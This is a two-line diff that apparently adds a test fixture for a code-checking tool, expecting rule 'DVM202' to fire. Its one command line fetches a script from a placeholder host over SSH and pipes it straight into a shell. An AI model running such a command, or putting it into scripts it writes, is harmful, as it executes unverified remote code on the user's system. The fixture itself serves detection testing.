@@ -1,0 +1,2 @@
+# expect: DVM202
+ssh x.example.org cat i.sh | sh
